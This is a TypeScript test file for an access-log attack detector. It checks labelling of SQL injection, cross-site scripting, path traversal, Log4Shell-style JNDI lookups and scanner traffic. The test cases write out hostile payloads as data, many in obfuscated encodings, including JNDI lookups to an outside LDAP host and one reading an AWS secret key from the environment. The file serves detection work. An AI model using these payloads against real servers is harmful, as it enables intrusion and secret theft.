import { describe, expect, it } from 'vitest';
import { createDetector, kindOfAgent, recognizeBot } from '../../../src/collector/detect/index.js';
import { findFormat } from '../../../src/collector/formats/index.js';
import { valueAt, type Attack } from '../../../src/collector/model/index.js';
import { toBatch } from '../harness/line-batches.js';
import { BROWSER, toLog, type Ask } from '../harness/safe-batches.js';

function attacksOf(log: string): readonly (readonly Attack[])[] {
  const { codes, values } = createDetector()(findFormat('combined').parse(toBatch(log))).attacks;
  return Array.from(codes, (code) => values[code]!);
}

const one = (ask: Ask) => attacksOf(toLog(ask))[0]!;
const labels = (ask: Ask) => one(ask).map(({ label }) => label);
const line = (request: string, status: number, bytes: number) =>
  `192.0.2.7 - - [08/Mar/2026:10:05:03 +0000] "${request}" ${status} ${bytes} "-" "-"\n`;

describe('the detector', () => {
  it('tells where in the request it stood, each place once', () => {
    const payload = '${jndi:ldap://198.18.0.66/a}';
    const found = one({ target: `/${payload}?x=${payload}&y=${payload}`, referrer: payload, agent: payload });
    expect(found).toEqual([{ label: 'jndi-injection', places: ['path', 'query', 'referrer', 'userAgent'] }]);
  });

  it('gives one request every label that it earns', () => {
    expect(labels({ target: '/a?f=file:///etc/passwd', agent: 'Nikto/2.1.5' })).toEqual([
      'path-traversal',
      'server-side-request-forgery',
      'scanner',
    ]);
  });

  it('keeps nothing of the evidence', () => {
    const all = JSON.stringify(
      one({ target: '/..%2f..%2fetc/passwd?secret-word=1%27%20or%201=1', agent: 'sqlmap/1.8' }),
    );
    expect(all.replace(/"(?:label|places|path|query|userAgent|[a-z]+(?:-[a-z]+)*)"/g, '')).not.toMatch(
      /secret|etc|sqlmap\/|1\.8/,
    );
  });

  it('shares one empty list among all ordinary requests', () => {
    const found = attacksOf(
      toLog({}, { target: '/b?page=2' }, { target: '/c', agent: '-', referrer: 'https://example.jp/' }),
    );
    expect(new Set(found).size).toBe(1);
    expect(found[0]).toEqual([]);
  });

  it.each([
    [404, ['probing']],
    [403, ['probing']],
    [410, ['probing']],
    [200, []],
    [302, []],
    // a range that does not fit, too many requests, a failure: nothing was refused for what it is
    [416, []],
    [429, []],
    [500, []],
  ])('takes a door of other software for probing only where it was refused: %d', (status, expected) => {
    expect(labels({ target: '/wp-login.php', status })).toEqual(expected);
  });

  it('finds a secret file whatever the answer, and most of all when it was given away', () => {
    expect(labels({ target: '/.env', status: 200 })).toEqual(['sensitive-file']);
  });
});

describe('nested and odd encodings', () => {
  const SCRIPT = '<script>alert(1)</script>';
  it.each([
    ['plain', '<script>'],
    ['percent', encodeURIComponent(SCRIPT)],
    ['percent twice', encodeURIComponent(encodeURIComponent(SCRIPT))],
    ['percent three times', encodeURIComponent(encodeURIComponent(encodeURIComponent(SCRIPT)))],
    ['percent within percent', '%%33%63script%%33%65'],
    ['%u', '%u003Cscript%u003E'],
    ['escapes of nginx', String.raw`\x3Cscript\x3E`],
    ['escapes of JSON', String.raw`\u003cscript\u003e`],
    ['overlong, two bytes', '%C0%BCscript%C0%BE'],
    ['overlong, three bytes', '%E0%80%BCscript%E0%80%BE'],
    ['overlong, four bytes', '%F0%80%80%BCscript%F0%80%80%BE'],
    ['full width', '%EF%BC%9Cscript%EF%BC%9E'],
    ['null bytes', '%3Cscr%00ipt%3E'],
    ['mixed case', '%3CsCrIpT%3E'],
    ['HTML entities', '%26lt;script%26gt;'],
    ['HTML numbers', '%26%2360;script%26%23x3e;'],
    ['line feeds', '%3Csvg%0D%0Aonload%0A=x'],
  ])('are read as the application might: %s', (_, value) => {
    expect(labels({ target: `/?q=${value}` })).toContain('cross-site-scripting');
  });

  it.each([
    "1'/**/or/**/'1'='1",
    '1+un/**/ion+sel/**/ect+2',
    '1/*!50000union*/+/*!select*/+2',
    '1%27%09or%0b1=1',
    "1'+OR+'a'%20LIKE%20'a",
    '1+/*+union+*/union/*x*/all+select+2',
  ])('of SQL do not hide it: %s', (value) => {
    expect(labels({ target: `/?id=${value}` })).toContain('sql-injection');
  });

  it.each([
    '..%c0%af..%c0%afx',
    '%2e%2e%2fx',
    '.%2e/.%2e/x',
    '%%32%65%%32%65/x',
    '..%5c..%5cx',
    '%252e%252e%255cx',
    '..%u2215..%u2215x',
  ])('of dots and slashes do not hide the way out: %s', (path) =>
    expect(labels({ target: `/cgi-bin/${path}`, status: 400 })).toContain('path-traversal'),
  );

  it('in text that is no attack stay ordinary: Japanese, Shift_JIS, bytes of no encoding', () => {
    const targets = [
      '/%E3%83%8B%E3%83%A5%E3%83%BC%E3%82%B9/?q=%EF%BC%88%E6%A0%AA%EF%BC%89%E3%81%A8%E3%81%AF',
      '/?q=%83j%83%85%81%5b%83X',
      '/%ff%fe%c3%28?x=%e3%81',
      '/search?q=caf%C3%A9+%26+bar&lang=ja#top',
    ];
    expect(attacksOf(toLog(...targets.map((target) => ({ target }))))).toEqual([[], [], [], []]);
  });
});

describe('disguises of a look-up', () => {
  it.each([
    '${jndi:ldap://198.18.0.66/a}',
    '$%7Bjndi:dns://198.18.0.66%7D',
    '${lower:j}${lower:n}di:ldap://x',
    '${upper:j}ndi',
    '${env:AWS_SECRET_ACCESS_KEY}',
    '${sys:os.name}',
    '${date:j}',
    '${::-j}${::-n}${::-d}${::-i}',
    '${env:NaN:-j}ndi',
    '${${::-j}ndi:rmi://x}',
  ])('do not hide it: %s', (value) => {
    expect(labels({ target: `/?x=${value}` })).toContain('jndi-injection');
    expect(labels({ agent: value })).toContain('jndi-injection');
  });
});

describe('requests that are none', () => {
  it.each([
    ['TLS on the wrong port', String.raw`\x16\x03\x01\x01 \x02`, 400, 226, 'requestLine'],
    ['another protocol', 'SSH-2.0-Go', 400, 157, 'requestLine'],
    ['a version that there is not', 'GET / HTTP/9.9', 505, 150, 'requestLine'],
    ['a method that there is not', 'ABCD / HTTP/1.1', 405, 150, 'method'],
  ])('are malformed: %s', (_, request, status, bytes, place) => {
    expect(attacksOf(line(request, status, bytes))).toEqual([[{ label: 'malformed-request', places: [place] }]]);
  });

  it.each([
    ['a connection that a browser opened ahead, Apache', '-', 408, 0],
    ['the same, nginx', '', 400, 0],
    ['a client that left', '', 499, 0],
    ['an extension that the server knows', 'MKFANCY /dav HTTP/1.1', 200, 10],
    ['calendars', 'REPORT /dav HTTP/1.1', 403, 10],
  ])('or only look so: %s', (_, request, status, bytes) => {
    expect(attacksOf(line(request, status, bytes))).toEqual([[]]);
  });

  it('ask for an open proxy or use a method of tools', () => {
    expect(attacksOf(line('CONNECT example.com:443 HTTP/1.1', 405, 9))[0]).toEqual([
      { label: 'probing', places: ['method'] },
    ]);
    expect(attacksOf(line('TRACE / HTTP/1.1', 200, 9))[0]).toEqual([{ label: 'scanner', places: ['method'] }]);
  });
});

describe('referrers', () => {
  it('count when a payload was put there', () => {
    expect(one({ referrer: "https://a.example/?q='+union+select+1--" })).toEqual([
      { label: 'sql-injection', places: ['referrer'] },
    ]);
  });

  it('from a search engine tell what a person looked for', () => {
    const words = "?q=sql+'+union+select+1+from+users+%3Cscript%3E";
    expect(labels({ referrer: `https://www.google.co.jp/search${words}` })).toEqual([]);
    expect(labels({ referrer: `https://www.google.co.jp.example.org/search${words}` })).toContain('sql-injection');
    expect(labels({ referrer: 'https://www.google.com/?q=${jndi:ldap://198.18.0.66/a}' })).toEqual(['jndi-injection']);
  });
});

describe('the three classes of user agents', () => {
  it.each([
    [BROWSER, 'human'],
    ['Opera/9.80 (Windows NT 6.1; U; ja) Presto/2.10.289 Version/12.02', 'human'],
    ['J-PHONE/4.3/V603SH', 'human'],
    ['DoCoMo/2.0 P903i(c100;TB;W24H12)', 'human'],
    ['curl/8.6.0', 'bot'],
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'bot'],
    ['MyShop/4.2 CFNetwork/1410 Darwin/22.6.0', 'unknown'],
    ['Dalvik/2.1.0 (Linux; U; Android 9; Pixel 3)', 'unknown'],
    ['', 'unknown'],
  ])('%s is %s', (userAgent, kind) => expect(kindOfAgent(userAgent, recognizeBot(userAgent))).toBe(kind));

  it('call a request without user agent unknown, and no bot', () => {
    const found = createDetector()(findFormat('combined').parse(toBatch(toLog({ agent: '-' }, {}))));
    const agents = [0, 1].map((row) => valueAt(found.agent, row));
    expect(agents.map(({ kind }) => kind)).toEqual(['unknown', 'human']);
    expect(agents.map(({ bot }) => bot)).toEqual([null, null]);
  });
});
